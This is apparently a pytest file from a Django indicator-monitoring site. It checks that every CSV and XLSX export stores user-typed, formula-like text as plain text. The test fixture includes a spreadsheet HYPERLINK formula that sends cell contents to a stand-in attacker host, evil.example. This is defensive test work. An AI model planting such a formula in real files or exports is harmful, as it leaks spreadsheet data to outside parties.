"""No export makes a formula of what people typed: every CSV and XLSX the site writes, scanned cell by cell.

The plan's names, an indicator's text and unit, an agency's short name, a kecamatan's name and an officer's
narrative all start like spreadsheet formulas here. A CSV field may not start with = + - @ (a tab or a
carriage return) unless it is a number: such text gets a leading apostrophe. An XLSX cell is never a
formula (text is stored as text).
"""

import csv
import datetime
import io

import openpyxl
import pytest

from conftest import make_user
from indicators.figures.completeness import completeness
from indicators.intake.template import build_template
from indicators.models import Indicator
from indicators.plans.plan_file import to_csv, to_xlsx
from indicators.plans.plan_import import parse_plan_file
from indicators.tests.factories import entry
from programs.models import Region
from reports.exchange import dataset
from reports.files import completeness_files, summary
from reports.province import overview, xlsx
from tptto_monitor.lib.cells import FORMULA_STARTS

END = datetime.date(2026, 11, 30)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1&B1,"Lihat bukti")'


@pytest.fixture
def hostile(plan):
    """The plan with formula-looking text wherever people type text that an export writes."""
    indicator = Indicator.objects.get(plan=plan, code="1.a.1.1")
    indicator.unit_id = indicator.unit_en = "=1+1"
    indicator.text_id = indicator.text_en = "+SUM(A1:A2)"
    indicator.note_id = indicator.note_en = "-2+3"
    indicator.save()
    agency = indicator.agency
    agency.short_name = "@SUM(A1)"
    agency.save()
    activity = indicator.activity
    activity.name_id = activity.name_en = "=2+2"
    activity.save()
    program = activity.program
    program.name_id = program.name_en = "=3+3"
    program.save()
    pillar = program.pillar
    pillar.name_id = pillar.name_en = "=4+4"
    pillar.save()
    Region.objects.filter(code="53.03.08").update(name="=5+5")  # Insana
    entry("1.a.1.1", "2021S1", value=300, narrative=HYPERLINK, kecamatan="53.03.08")
    entry("2.b.1.2", "2021S1", narrative=HYPERLINK)
    entry("1.b.2.1", "2021S1", kecamatan="53.03.08")
    return plan


def unguarded_csv_fields(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    bad = []
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_STARTS):
                try:
                    float(field)  # a negative number is a number
                except ValueError:
                    bad.append(field)
    return bad


def formula_cells(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{cell.coordinate}: {cell.value}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def csv_exports(plan) -> dict[str, bytes]:
    return {
        "summary 2021": summary.build(plan, 2021, "csv", "id", END),
        "summary plan": summary.build(plan, None, "csv", "en", END),
        "dataset": dataset.build(plan, "csv", END),
        "completeness": completeness_files.build(completeness(plan, as_of=END), "csv"),
        "plan file": to_csv(plan),
        "import template": build_template(plan, None, "csv"),
    }


def xlsx_exports(plan) -> dict[str, bytes]:
    return {
        "summary 2021": summary.build(plan, 2021, "xlsx", "id", END),
        "summary plan": summary.build(plan, None, "xlsx", "en", END),
        "dataset": dataset.build(plan, "xlsx", END),
        "completeness": completeness_files.build(completeness(plan, as_of=END), "xlsx"),
        "plan file": to_xlsx(plan),
        "import template": build_template(plan, None, "xlsx"),
        "province": xlsx.render(overview.build(Region.objects.get(code="53"), 2021, as_of=END)),
    }


@pytest.mark.django_db
def test_no_csv_export_has_an_unguarded_formula(hostile):
    found = {name: unguarded_csv_fields(content) for name, content in csv_exports(hostile).items()}
    assert {name: bad for name, bad in found.items() if bad} == {}
    dataset_text = dataset.build(hostile, "csv", END).decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in dataset_text  # kept, as text
    assert "'=1+1" in dataset_text


@pytest.mark.django_db
def test_no_xlsx_export_has_a_formula_cell(hostile):
    found = {name: formula_cells(content) for name, content in xlsx_exports(hostile).items()}
    assert {name: bad for name, bad in found.items() if bad} == {}
    book = openpyxl.load_workbook(io.BytesIO(dataset.build(hostile, "xlsx", END)))
    values = {cell.value for row in book.active.iter_rows() for cell in row}
    assert {HYPERLINK, "=1+1", "=5+5"} <= values  # the text itself, as text


@pytest.mark.django_db
def test_the_chart_csv_guards_its_names(hostile, client_for):
    reviewer = make_user("reviewer_x", "reviewer")
    client = client_for(reviewer)
    content = client.get("/rad/rad-ttu-2018-2022/dashboard/indicator/1.a.1.1/?csv=kecamatan").content
    assert unguarded_csv_fields(content) == []
    assert "'=5+5" in content.decode()


@pytest.mark.django_db
def test_a_plan_file_round_trip_keeps_formula_looking_text_as_text_and_every_export_still_guards_it(hostile):
    """The plan file writes '=1+1; the importer reads back the text =1+1 (not the apostrophe, not a formula),
    and the same file written again is the same file."""
    for content in (to_csv(hostile), to_xlsx(hostile)):
        parsed = parse_plan_file(content, years=(2018, 2022), region=hostile.region)
        assert parsed.errors == []
        activities = [a for p in parsed.pillars for program in p["programs"] for a in program["activities"]]
        indicators = [i for a in activities for i in a["indicators"]]
        assert ("=1+1", "+SUM(A1:A2)") in {(i["unit_id"], i["text_id"]) for i in indicators}
